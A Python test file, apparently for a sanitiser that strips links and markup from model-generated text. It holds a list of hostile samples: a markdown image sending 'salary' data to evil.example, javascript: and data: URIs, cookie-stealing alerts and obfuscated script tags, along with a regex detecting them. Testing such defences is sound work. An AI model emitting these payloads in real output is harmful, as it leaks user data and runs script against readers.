"""What a page makes a model say can be read, and does nothing."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from generate.containment import finished_part, plain_text

HOSTILE = [
    "![logo](https://evil.example/pixel.png?asked=salary)",
    "See [the invoice](http://evil.example/x) now.",
    "[the invoice] (http://evil.example/x)",
    "[a][1]\n\n[1]: https://evil.example/ref",
    '<img src="https://evil.example/p.png">',
    "<a href='javascript:alert(1)'>press</a>",
    "<scr<b>ipt>alert(1)</scr</b>ipt>",
    "<https://evil.example/auto>",
    "Go to https://evil.example/a or www.evil.example",
    "javascript:alert(document.cookie)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "mailto:me@evil.example",
    "[x](<javascript:alert(1)>)",
    "htt\u200bps://evil.example",
    "[[nested](http://a.example)](http://b.example)",
    "<!-- <script>alert(1)</script> -->",
    "<<b>script>alert(1)<</b>/script>",
    "https://https://evil.example",
]
ALIVE = re.compile(
    r"://|\]\(|<[A-Za-z/!?]|\b(?:javascript|data|mailto|vbscript):\S|\bwww\.\S|[\u200b-\u200f]",
    re.IGNORECASE,
)


@pytest.mark.parametrize("text", HOSTILE)
def test_no_form_of_link_or_markup_is_left(text: str) -> None:
    assert not ALIVE.search(plain_text(text)), plain_text(text)


@pytest.mark.parametrize(
    "text",
    [
        "The lease ends on 31 March 2027.",
        "Costs fell by 3 %: from 4,812 to 4,310 (see table 2, note [3]).",
        "a < b and b > c, so x <= 5",
        "Ratio 3:1, at 10:30; time: 5 s",
        "Line one.\n\nLine two: item [1], item [2]",
        "f(x)[0] = y; note [3], [4]",
    ],
)
def test_ordinary_answers_stay_as_they_are(text: str) -> None:
    assert plain_text(text) == text


def test_what_a_link_said_can_still_be_read() -> None:
    assert plain_text("Our site is https://example.org/about.") == "Our site is example.org/about."
    assert plain_text("See [the annex](http://example.org).") == "See the annex."


pieces = st.lists(
    st.sampled_from([*HOSTILE, "[", "](", "<", ">", "!", "http", "://", "www", ".", "a b ", "\n"]),
    max_size=8,
).map("".join)


@given(pieces)
def test_nothing_comes_alive_however_it_is_put_together(text: str) -> None:
    plain = plain_text(text)
    assert not ALIVE.search(plain), plain
    assert plain_text(plain) == plain


@given(pieces, pieces)
def test_what_is_finished_is_never_taken_back_as_a_link(before: str, after: str) -> None:
    assert not ALIVE.search(plain_text(finished_part(before)))
    assert before.startswith(finished_part(before))
